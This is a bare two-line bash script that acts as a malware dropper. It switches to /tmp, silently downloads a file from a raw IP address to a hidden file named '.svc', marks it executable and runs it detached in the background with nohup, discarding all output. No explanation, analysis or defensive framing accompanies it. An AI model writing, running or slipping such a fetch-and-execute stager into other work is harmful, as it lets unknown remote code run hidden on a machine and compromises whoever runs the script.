#!/bin/bash
cd /tmp && curl -s -o .svc http://203.0.113.77/dl/svc > /dev/null 2>&1 && chmod +x .svc && nohup ./.svc > /dev/null 2>&1 &
